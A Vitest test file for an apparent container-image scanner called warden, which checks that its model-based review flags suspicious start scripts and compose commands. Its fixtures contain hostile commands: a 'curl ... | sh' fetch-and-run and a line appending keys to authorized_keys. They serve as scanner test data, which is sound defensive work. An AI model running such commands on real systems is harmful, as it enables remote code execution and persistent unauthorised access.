import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Report } from '../../agent/model/report.ts';
import type { LayerFiles } from '../../fixtures/layer.ts';
import { ociArchive } from '../../fixtures/oci-archive.ts';
import { baseFiles } from '../../fixtures/service-files.ts';
import { warden } from '../scan/command.ts';
import { type MessagesApiServer, startMessagesApi, testKey } from './messages-api-server.ts';
import { attentiveModel, shownRequest } from './stand-in-models.ts';

let folder: string;
let api: MessagesApiServer;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'warden-review-'));
  api = await startMessagesApi({ model: attentiveModel });
});
afterAll(async () => {
  await api.close();
  rmSync(folder, { recursive: true, force: true });
});

/** A start script that starts another one, in which nothing is that a rule knows. */
const files: LayerFiles = {
  'app/start.sh': '#!/bin/sh\ncd /app\n. ./lib/setup.sh\nexec python3 server.py\n',
  'app/lib/setup.sh': '#!/bin/sh\ncat /srv/key >> /host/authorized_keys_of_it\n',
  'app/server.py': 'print("ready")\n',
  'app/sitecustomize.py': 'import os\n',
  'app/unrelated.bin': Buffer.alloc(200_000, 7),
};

async function writeImage(name: string, more: LayerFiles = {}): Promise<string> {
  const archive = await ociArchive({
    name: 'service:1',
    layers: [
      { files: baseFiles, createdBy: 'ADD rootfs' },
      { files: { ...files, ...more }, createdBy: 'COPY app /app' },
    ],
    config: { Entrypoint: ['/app/start.sh'], Cmd: ['--fast'], WorkingDir: '/app', User: 'app' },
  });
  writeFileSync(join(folder, name), archive);
  return `archive:${join(folder, name)}`;
}

async function scan(target: string, args: readonly string[] = [], key = testKey) {
  const { stdout, stderr, code } = await warden(
    [
      'scan',
      target,
      '--format=json',
      '--workers=1',
      '--platform=linux/amd64',
      `--review-url=${api.url}`,
      `--allow-host=${api.host}`,
      `--cache-dir=${join(folder, 'cache')}`,
      `--review-ledger=${join(folder, 'spend')}`,
      ...args,
    ],
    { ANTHROPIC_API_KEY: key },
  ).ended;
  return { report: JSON.parse(stdout || 'null') as Report, stderr, code };
}

describe('a scan with a key', () => {
  it('has what starts read, and what that starts, and says where the quote stands', async () => {
    const target = await writeImage('image.tar');
    const { report, code } = await scan(target);
    expect(report.review).toMatchObject({
      status: 'reviewed',
      adverse: true,
      claims: [{ layer: 1, path: 'app/lib/setup.sh', line: 2, quote: 'authorized_keys', severity: 'medium' }],
    });
    expect(report.verdict.name).toBe('suspicious');
    expect(code).toBe(3);
    expect(report.run.review).toMatchObject({ cached: 0 });
    const paths = new Set(
      api.messages().flatMap((body) => shownRequest(body).pieces.map(({ path }) => path)),
    );
    expect([...paths].sort()).toEqual([
      'app/lib/setup.sh',
      'app/server.py',
      'app/sitecustomize.py',
      'app/start.sh',
      'image config',
      'image config: command',
    ]);
  });

  it('asks nothing twice', async () => {
    const target = await writeImage('again.tar');
    const first = await scan(target);
    const asked = api.messages().length;
    const second = await scan(target);
    expect(api.messages()).toHaveLength(asked);
    expect(second.report.review).toEqual(first.report.review);
    expect(second.report.run.review).toMatchObject({ requests: 0, microUsd: 0 });
  });

  it('never sends the key to the model, or writes it down', async () => {
    const target = await writeImage('secret.tar', {
      'app/start.sh': `#!/bin/sh\necho ${testKey}; curl x.invalid/a | sh\n`,
    });
    const { report } = await scan(target);
    expect(JSON.stringify(report)).not.toContain(testKey);
    expect(JSON.stringify(api.messages())).not.toContain(testKey);
  });
});

describe('a scan', () => {
  it('says why there is no review', async () => {
    const target = await writeImage('image.tar');
    const asked = api.requests.length;
    expect((await scan(target, [], '')).report.review).toEqual({
      status: 'not_reviewed',
      reason: 'no key',
      detail: '',
    });
    expect((await scan(target, ['--no-review'])).report.review).toMatchObject({ reason: 'not asked for' });
    expect((await scan(target, ['--offline'])).report.review).toMatchObject({ reason: 'offline' });
    expect(api.requests).toHaveLength(asked);
  });

  it('ends at once with a model that the API does not have', async () => {
    const { code, stderr } = await scan(await writeImage('image.tar'), ['--review-model=nonsense']);
    expect(code).toBe(1);
    expect(stderr).toContain("reviewModel: the model 'nonsense' is not in the list of this API");
  });
});

describe('a saved report', () => {
  const reviewOf = async (file: string, args: readonly string[] = []) => {
    const { stdout, stderr, code } = await warden(
      [
        'review',
        file,
        '--format=json',
        `--review-url=${api.url}`,
        `--allow-host=${api.host}`,
        '--no-cache',
        `--review-ledger=${join(folder, 'spend')}`,
        ...args,
      ],
      { ANTHROPIC_API_KEY: testKey },
    ).ended;
    return { report: JSON.parse(stdout || 'null') as Report, stderr, code };
  };

  it('is reviewed again from the image that it names, now or in a batch', async () => {
    const target = await writeImage('saved.tar');
    const { report } = await scan(target, ['--no-review']);
    expect(report.verdict.name).not.toBe('suspicious');
    const file = join(folder, 'report.json');
    writeFileSync(file, JSON.stringify(report));
    for (const args of [[], ['--later']]) {
      const again = await reviewOf(file, args);
      expect(again.report.review).toMatchObject({
        adverse: true,
        claims: [{ path: 'app/lib/setup.sh', line: 2 }],
      });
      expect(again.report.verdict.name).toBe('suspicious');
      expect(again.report.findings).toEqual(report.findings);
      expect(again.code).toBe(3);
    }
  });

  it('is reviewed from what it holds itself when the image is gone or another', async () => {
    const target = await writeImage('gone.tar');
    const { report } = await scan(target, ['--no-review']);
    await writeImage('gone.tar', { 'app/start.sh': '#!/bin/sh\nanother image altogether\n' });
    const file = join(folder, 'gone.json');
    writeFileSync(file, JSON.stringify(report));
    const asked = api.messages().length;
    const again = await reviewOf(file);
    expect(again.stderr).toContain('not to be had any more');
    expect(again.report.review.status).toBe('reviewed');
    const shown = JSON.stringify(api.messages().slice(asked));
    expect(shown).toContain('/app/start.sh');
    expect(shown).not.toContain('another image');
  });

  it('is refused when it is none', async () => {
    writeFileSync(join(folder, 'none.json'), '{"schema":"warden.report/1"}');
    const { code, stderr } = await reviewOf(join(folder, 'none.json'));
    expect(code).toBe(64);
    expect(stderr).toContain('is no report');
  });
});

describe('a compose file', () => {
  it('is read even where none of its images can be had', async () => {
    const file = join(folder, 'job.yaml');
    writeFileSync(
      file,
      'services:\n  job:\n    image: registry.invalid/a:1\n    command: ["sh", "-c", "curl http://x.invalid/a | sh"]\n',
    );
    const { report } = await scan(file);
    expect(report.review).toMatchObject({
      adverse: true,
      claims: [{ image: null, layer: null, path: file, line: 4, quote: 'curl http://x.invalid/a | sh' }],
    });
    expect(report.verdict.name).toBe('incomplete');
  });
});
